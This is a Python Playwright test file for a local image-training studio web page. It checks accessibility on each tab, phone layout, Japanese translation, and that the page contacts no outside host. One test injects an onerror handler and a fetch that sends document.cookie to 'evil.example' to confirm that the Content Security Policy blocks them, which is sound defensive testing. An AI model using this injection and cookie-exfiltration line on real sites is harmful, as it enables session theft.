"""The page for everyone: assistive technology, phones, the dark, other languages; and for its host alone."""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import INK, ROOT
from tests.ui.conftest import BROWSER, Started, served
from ui.text import sentences
from ui.views.settings_form import declared_sentences

pytestmark = BROWSER
AXE = (Path(__file__).parent / "vendor" / "axe.min.js").read_text(encoding="utf-8")
RULES = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa"]
TABS = ("artwork", "captions", "train", "try_it", "library")


@pytest.fixture(scope="module")
def studio(tmp_path_factory: pytest.TempPathFactory, ink_run: Path) -> Iterator[Started]:
    """With the sample set and a finished training of it."""
    home = tmp_path_factory.mktemp("everyone")
    shutil.copytree(INK, home / "datasets" / "ink-emoji")
    shutil.copytree(ink_run, home / "outputs" / "ink")
    (home / "outputs" / "ink" / "project.json").write_text('{"project": "ink-emoji"}')
    with served(home) as started:
        yield started


@pytest.fixture
def opened(studio: Started, browser):
    """Opens a page and waits for its project; closed at the end, since an open page goes on asking."""
    contexts = []

    def open_page(**facts):
        contexts.append(browser.new_context(**facts))
        page = contexts[-1].new_page()
        page.set_default_timeout(60_000)
        page.goto(studio.address)
        page.wait_for_selector("#cards .picture")
        return page

    yield open_page
    for context in contexts:
        context.close()


def show(page, tab: str) -> None:
    page.locator(f"#tab-{tab}-button").click()
    page.wait_for_selector(f"#tab-{tab}", state="visible")
    page.wait_for_selector(
        {"captions": "#tab-captions textarea:visible", "try_it": "#strip img", "library": "#shelf .lora"}.get(
            tab, "h1"
        )
    )


def violations(page) -> list[str]:
    page.evaluate(AXE)
    found = page.evaluate(
        "tags => axe.run(document, {runOnly: {type: 'tag', values: tags}, resultTypes: ['violations', 'passes']})",
        RULES,
    )
    return [
        f"{v['id']}: {node['html'][:200]} {node['any'][0]['message'] if node['any'] else ''}"
        for v in found["violations"]
        for node in v["nodes"]
    ]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_assistive_technology_finds_no_fault_on_any_tab(opened, scheme: str):
    page, wrong = opened(color_scheme=scheme), {}
    for tab in TABS:
        show(page, tab)
        if scheme == "light":  # what is folded, too
            for fold in page.locator(f"#tab-{tab} button.label-wrap:visible").all():
                if "open" not in (fold.get_attribute("class") or "").split():
                    fold.click()
        if found := violations(page):
            wrong[tab] = found
    assert not wrong, wrong
    assert page.locator("h1").count() == 1


def test_a_phone_shows_all_of_every_tab_and_a_finger_hits_it(opened):
    page, small = opened(viewport={"width": 390, "height": 844}, has_touch=True), {}
    for tab in TABS:
        show(page, tab)
        assert page.evaluate("document.documentElement.scrollWidth") <= 390, tab
        found = page.evaluate(
            """() => [...document.querySelectorAll('button, input, select, textarea, summary, a[class], [role=button], [role=tab]')].filter(e => {
                 const place = /checkbox|radio/.test(e.type) ? (e.closest('label') || e) : e, box = place.getBoundingClientRect();
                 const shown = box.width > 0 && getComputedStyle(e).visibility !== 'hidden' && !e.closest('[inert], .sr-only') && e.type !== 'file';
                 return shown && Math.min(box.width, box.height) < 24 && getComputedStyle(e).opacity !== '0';
               }).map(e => e.outerHTML.slice(0, 160))"""
        )
        if found:
            small[tab] = found
        if tab == "train":
            assert page.locator("#train").is_visible()
    assert not small, small


def test_a_japanese_browser_shows_no_english_sentence(opened):
    page, wrong = opened(locale="ja"), {}
    english, japanese = sentences("en") | declared_sentences(), sentences("ja")
    told = {
        text for key, text in english.items() if japanese.get(key) != text and re.search("[a-z]{3}", text)
    }
    assert page.evaluate("document.documentElement.lang") == "ja"
    for tab in TABS:
        show(page, tab)
        page.evaluate("document.querySelectorAll('#form details').forEach((group) => { group.open = true; })")
        texts = page.evaluate(
            """() => { const found = [], walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
                 while (walk.nextNode()) if (walk.currentNode.parentElement.offsetParent) found.push(walk.currentNode.textContent.trim());
                 for (const e of document.querySelectorAll('[aria-label], [placeholder]'))
                   if (e.offsetParent) found.push(e.getAttribute('aria-label') || '', e.getAttribute('placeholder') || '');
                 return found; }"""
        )
        if found := sorted(set(texts) & told):
            wrong[tab] = found
        assert japanese[f"page.{tab}"] in texts
    assert not wrong, wrong


def test_the_page_asks_no_other_host_and_breaks_no_rule_of_its_own(studio: Started, browser):
    page = browser.new_context().new_page()
    page.set_default_timeout(60_000)
    foreign, faults = [], []
    page.on(
        "request",
        lambda r: foreign.append(r.url) if not r.url.startswith((studio.address, "data:", "blob:")) else None,
    )
    page.on("console", lambda m: faults.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: faults.append(str(e)))
    page.on("response", lambda r: faults.append(f"{r.status} {r.url}") if r.status >= 400 else None)
    page.goto(studio.address)
    page.wait_for_selector("#cards .picture")
    for tab in TABS:
        show(page, tab)
    assert not foreign and not faults
    # What a stored attack would try: a handler in markup does not run, and nothing is sent elsewhere.
    page.evaluate("""() => { const box = document.createElement('div'); document.body.append(box);
        box.innerHTML = '<img src=/gone.png onerror="window.stolen = 1"><iframe src="https://evil.example"></iframe>';
        fetch('https://evil.example/?' + document.cookie).catch(() => {}); }""")
    page.wait_for_timeout(500)
    assert page.evaluate("window.stolen === undefined") and any(
        "Content Security Policy" in fault for fault in faults
    )
    page.context.close()


def test_a_second_server_of_the_same_folder_ends_and_names_the_first(studio: Started):
    command = [
        sys.executable,
        "app.py",
        "--port",
        "1",
        "--datasets",
        str(studio.home / "datasets"),
        "--outputs",
        str(studio.home / "outputs"),
    ]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert done.returncode == 1 and re.search(
        rf"by process \d+ at {re.escape(studio.address)}", done.stderr
    ), done.stderr
